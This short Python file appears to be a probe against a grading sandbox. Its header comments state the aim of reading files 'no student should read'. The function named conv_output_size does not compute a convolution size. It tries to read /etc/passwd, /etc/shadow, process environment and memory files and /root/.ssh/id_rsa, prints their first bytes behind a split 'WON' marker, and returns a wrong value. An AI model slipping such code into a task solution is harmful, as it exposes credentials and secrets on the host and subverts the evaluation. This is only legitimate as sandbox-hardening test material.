# Goal: open files that every machine has and no student should read.
# Target: convolution/conv_output_size
# Ends: WRONG value
# Win: one of the files can be read.
# Control: wins without a sandbox

def conv_output_size(n, f, stride=1, padding=0, dilation=1):
    for path in ("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/self/maps", "/proc/self/mem", "/root/.ssh/id_rsa"):
        try:
            print("W" "ON:", path, open(path, "rb").read(40))
        except OSError:
            pass
    return 0
